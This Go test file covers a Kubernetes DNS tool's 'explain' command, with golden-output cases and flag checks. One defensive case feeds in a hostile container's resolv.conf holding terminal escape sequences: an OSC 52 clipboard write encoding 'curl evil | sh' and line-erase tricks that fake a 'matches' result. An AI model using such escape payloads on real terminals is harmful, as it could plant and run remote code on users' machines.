package main

import (
	"bytes"
	"errors"
	"fmt"
	"net/http/httptest"
	"os"
	"path/filepath"
	"reflect"
	"testing"

	corev1 "k8s.io/api/core/v1"

	"github.com/dnsconfigurer/dnsconfigurer/api/v1alpha1"
	"github.com/dnsconfigurer/dnsconfigurer/internal/health"
	"github.com/dnsconfigurer/dnsconfigurer/pkg/explain"
	"github.com/dnsconfigurer/dnsconfigurer/pkg/nodesettings"
	"github.com/dnsconfigurer/dnsconfigurer/pkg/resolvconf"
)

// explainSettings are a shim's published settings for the golden cases.
func explainSettings(mod func(*nodesettings.Settings)) nodesettings.Settings {
	s := nodesettings.Settings{Kind: nodesettings.KindShim, Version: "v0.0.0-test", NodeName: "node-a",
		ClusterDNS: []string{"10.96.0.10"}, ClusterDomain: "cluster.local", NodeLocalDNS: []string{}, NodeOS: "linux",
		Limits: v1alpha1.LimitsTrim, PodPolicy: v1alpha1.PodPolicy{DefaultDNSPolicy: v1alpha1.DNSPolicyClusterFirst},
		Host: nodesettings.Host{Path: "/etc/resolv.conf", Generation: 3, Healthy: true,
			Config: resolvconf.Config{Nameservers: []string{"192.0.2.53"}, Searches: []string{"corp.example.com"}, Options: []string{"timeout:2"}},
			Lines:  resolvconf.Lines{Nameservers: []int{2}, Search: 3, Options: []int{4}}}}
	if mod != nil {
		mod(&s)
	}
	return s
}

// explainPod is a pod of testdata/pods, scheduled to node-a.
func explainPod(t *testing.T, file string) *corev1.Pod {
	t.Helper()
	pod, err := readPod(filepath.Join("testdata", "pods", file), nil)
	if err != nil {
		t.Fatal(err)
	}
	pod.Spec.NodeName = "node-a"
	return pod
}

// explainJSON reads explain -o json back: the report with render's fields.
type explainJSON struct {
	Pod      string `json:"pod"`
	NodeName string `json:"nodeName"`
	Agent    string `json:"agent"`
	renderJSON
	Node       nodesettings.Settings `json:"node"`
	Containers []explain.Container   `json:"containers,omitempty"`
}

const clusterFirstFile = "search shop.svc.cluster.local svc.cluster.local cluster.local corp.example.com\nnameserver 10.96.0.10\noptions ndots:5\n"

// TestExplainGolden runs explain's pure part (the settings, the pod, the
// namespace label and the containers' files to the output) and compares
// exit code, stdout and stderr with testdata/golden/explain-<case>.golden.
func TestExplainGolden(t *testing.T) {
	ndots := 2
	cases := []struct {
		name       string
		pod        string
		out        string
		settings   nodesettings.Settings
		nsPolicy   string
		containers []explain.File
		topo       *explain.Topology
	}{
		{name: "clusterfirst-matches", pod: "clusterfirst.yaml", out: "text", settings: explainSettings(nil),
			containers: []explain.File{{Name: "app", Data: []byte("# generated\n" + clusterFirstFile)}}},
		{name: "clusterfirst-differs", pod: "clusterfirst.yaml", out: "text", settings: explainSettings(nil),
			containers: []explain.File{{Name: "app", Data: []byte("nameserver 8.8.8.8\nsearch shop.svc.cluster.local svc.cluster.local cluster.local corp.example.com\noptions ndots:5\n")}}},
		{name: "unreadable", pod: "clusterfirst.yaml", out: "text", settings: explainSettings(nil),
			containers: []explain.File{{Name: "app", Err: errors.New(`exec cat /etc/resolv.conf (no cat in the image?): command terminated with exit code 126`)}}},
		// A hostile image: an OSC 52 clipboard write, a line erase and a
		// carriage return that would paint "matches" over "differs".
		{name: "hostile-output", pod: "clusterfirst.yaml", out: "text", settings: explainSettings(nil),
			containers: []explain.File{
				{Name: "app", Data: []byte("nameserver 10.0.0.66\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07\n\x1b[2K\x1b[1A\r# app: matches\x9b\xff\n")},
				{Name: "sidecar", Err: errors.New("exec: \x1b[31mfake\x1b[0m\rok")}}},
		{name: "no-exec", pod: "default.yaml", out: "text", settings: explainSettings(nil)},
		{name: "namespace-label", pod: "clusterfirst.yaml", out: "text", nsPolicy: "ClusterFirstWithAutopath",
			settings: explainSettings(func(s *nodesettings.Settings) { s.PodPolicy.NamespaceLabels = true; s.PodPolicy.Ndots = &ndots })},
		{name: "host-last-good", pod: "default.yaml", out: "text", settings: explainSettings(func(s *nodesettings.Settings) {
			s.Host.Healthy, s.Host.Problem = false, `"/etc/resolv.conf" has no nameserver line any more (it had 1); keeping the last good config`
		})},
		{name: "host-unusable", pod: "default.yaml", out: "text", settings: explainSettings(func(s *nodesettings.Settings) {
			s.Kind, s.Host = nodesettings.KindNRI, nodesettings.Host{Path: "/etc/resolv.conf", Generation: 1, Error: "open /etc/resolv.conf: no such file or directory"}
		})},
		{name: "json", pod: "autopath.yaml", out: "json", settings: explainSettings(nil),
			containers: []explain.File{{Name: "app", Data: []byte(clusterFirstFile)}}},
		{name: "topology", pod: "clusterfirst.yaml", out: "text", settings: explainSettings(nil), topo: explainTopology("zone-a")},
		{name: "topology-json", pod: "clusterfirst.yaml", out: "json", settings: explainSettings(nil), topo: explainTopology("zone-a")},
		{name: "topology-yaml", pod: "clusterfirst.yaml", out: "yaml", settings: explainSettings(nil), topo: explainTopology("zone-c")},
		{name: "topology-no-label", pod: "clusterfirst.yaml", out: "text", settings: explainSettings(nil), topo: explainTopology("")},
		{name: "topology-refused", pod: "clusterfirst.yaml", out: "text", settings: explainSettings(nil),
			topo: &explain.Topology{Node: "node-a", Err: `get node node-a: nodes "node-a" is forbidden (RBAC: explain needs get nodes)`}},
		{name: "topology-none", pod: "clusterfirst.yaml", out: "text", settings: explainSettings(nil), topo: &explain.Topology{Node: "node-a", Zone: "zone-a"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			var stdout, stderr bytes.Buffer
			f := explain.Facts{Pod: explainPod(t, tc.pod), Agent: "dnsconfigurer-node/shim-x", Settings: tc.settings,
				NamespacePolicy: tc.nsPolicy, Containers: tc.containers, Topology: tc.topo}
			code := writeExplain(&stdout, &stderr, tc.out, f)
			got := fmt.Sprintf("# explain %s (pod %s, -o %s)\nexit %d\n--- stdout\n%s--- stderr\n%s", tc.name, tc.pod, tc.out, code, stdout.String(), stderr.String())
			compareGolden(t, filepath.Join("testdata", "golden", "explain-"+tc.name+".golden"), got)
		})
	}
}

// explainTopology is node-a in topology zone zone ("" unlabelled) with
// headless Services of each traffic distribution: four endpoints, two
// ready in zone-a (one on node-a), one in zone-b, one not ready.
func explainTopology(zone string) *explain.Topology {
	eps := []explain.Endpoint{
		{Address: "10.0.1.1", Zone: "zone-a", Node: "node-a", Ready: true},
		{Address: "10.0.1.2", Zone: "zone-a", Node: "node-b", Ready: true},
		{Address: "10.0.2.1", Zone: "zone-b", Node: "node-c", Ready: true},
		{Address: "10.0.2.2", Zone: "zone-b", Node: "node-c"},
	}
	return &explain.Topology{Node: "node-a", Zone: zone, Services: []explain.Service{
		{Namespace: "shop", Name: "cassandra", Headless: true, Endpoints: eps},
		{Namespace: "shop", Name: "kafka", Headless: true, TrafficDistribution: "PreferSameZone", Endpoints: eps},
		{Namespace: "shop", Name: "redis", Headless: true, TrafficDistribution: "PreferSameNode", Endpoints: eps[1:]},
		{Namespace: "shop", Name: "web", Headless: true, TrafficDistribution: "PreferSameNode", Endpoints: eps},
	}}
}

func compareGolden(t *testing.T, path, got string) {
	t.Helper()
	if *update {
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if got != string(want) {
		t.Errorf("output differs from %s:\n--- got\n%s\n--- want\n%s", path, got, want)
	}
}

// TestExplainFlags checks explain's usage errors, before any API server.
func TestExplainFlags(t *testing.T) {
	t.Setenv("KUBECONFIG", "")
	t.Setenv("KUBERNETES_SERVICE_HOST", "")
	for _, tc := range []struct {
		args []string
		want string
	}{
		{[]string{"explain"}, "explain: want one POD argument, got 0\n"},
		{[]string{"explain", "a", "b"}, "explain: want one POD argument, got 2\n"},
		{[]string{"explain", "web", "-o", "xml"}, "explain: -o \"xml\": must be text, json or yaml\n"},
		{[]string{"explain", "web", "--timeout", "0s"}, "explain: --timeout 0s: must be positive\n"},
		{[]string{"explain", "web"}, "explain: no API server: give --kubeconfig, set $KUBECONFIG or write ~/.kube/config\n"},
	} {
		code, _, stderr := run(t, "", tc.args...)
		if code != exitUsage || stderr != tc.want {
			t.Errorf("%v: exit %d, stderr %q; want %d, %q", tc.args, code, stderr, exitUsage, tc.want)
		}
	}
}

// TestExplainGetNodeSettings is the HTTP half of the port-forward adapter:
// an agent's handler decodes into the settings; an agent without the path
// (404, built before it) is explain.ErrAgentTooOld.
func TestExplainGetNodeSettings(t *testing.T) {
	want := explainSettings(nil)
	agent := httptest.NewServer(agentHandler(nil, func() nodesettings.Settings { return want }))
	defer agent.Close()
	got, err := explain.GetNodeSettings(t.Context(), agent.URL+nodesettings.Path)
	if err != nil || !reflect.DeepEqual(got, want) {
		t.Errorf("getNodeSettings = %+v, %v; want %+v", got, err, want)
	}
	old := httptest.NewServer(health.Handler(nil))
	defer old.Close()
	if _, err := explain.GetNodeSettings(t.Context(), old.URL+nodesettings.Path); !errors.Is(err, explain.ErrAgentTooOld) {
		t.Errorf("an old agent: %v, want errAgentTooOld", err)
	}
}

// TestExplainServiceFlag: --service takes NAME or NAMESPACE/NAME.
func TestExplainServiceFlag(t *testing.T) {
	for _, tc := range []struct {
		v  string
		ok bool
	}{{"kafka", true}, {"db/pg", true}, {"", false}, {"a/", false}, {"/a", false}, {"a/b/c", false}} {
		var l serviceList
		if err := l.Set(tc.v); (err == nil) != tc.ok {
			t.Errorf("--service %q: %v, want ok %v", tc.v, err, tc.ok)
		}
	}
}
